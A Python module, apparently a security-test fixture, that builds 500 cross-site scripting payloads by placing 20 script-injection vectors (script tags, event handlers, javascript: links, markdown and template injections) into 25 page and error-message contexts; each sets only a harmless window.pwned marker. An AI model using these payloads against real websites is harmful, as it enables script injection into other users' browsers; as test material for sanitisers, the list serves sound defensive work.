"""Texts that try to run a script of their own, wherever they are written into a page: every vector in every context."""

from itertools import product

MARK = "pwned"
"""What every one of them sets in the window, where it succeeds; it stands in each in plain letters."""
_RUN = f"window.{MARK}=1"

VECTORS = [
    f"<script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<p onanimationstart={_RUN} style=animation:st-fade-in>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>">',
    f"<iframe src=javascript:parent.{MARK}=1>",
    f"<object data=javascript:{_RUN}>",
    f'<a href="javascript:{_RUN}" id=a>x</a><style onload=a.click()>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={_RUN}>'>",
    f"[x](javascript:{_RUN})",
    f"![x](x'onerror='{_RUN})",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f'" onfocus={_RUN} autofocus x="',
]

CONTEXTS = [
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "`{}",
    "`` {} ``",
    "--> {}",
    "]]>{}",
    "</style>{}",
    "</script>{}",
    "</textarea>{}",
    "</title>{}",
    "</text></svg>{}",
    "1, 2, {}",
    "{}, 1, 2",
    "1\n2\n{}",
    "2x{}",
    "linear-4-3 {} linear-3-1",
    "nn.Sequential(nn.Linear(4, {}))",
    "RuntimeError: mat1 and mat2 shapes cannot be multiplied (1x4 and {})",
    'File "a`{}", line 1, in forward\nValueError: {}',
    "w1,{},neuron_code",
    "\u202e\ufeff{}\x00",
    ":red[{}] | {} | **{}**",
]

PAYLOADS = [context.replace("{}", vector) for context, vector in product(CONTEXTS, VECTORS)]
"""500 of them: in order, twenty neighbours have one context and all vectors."""
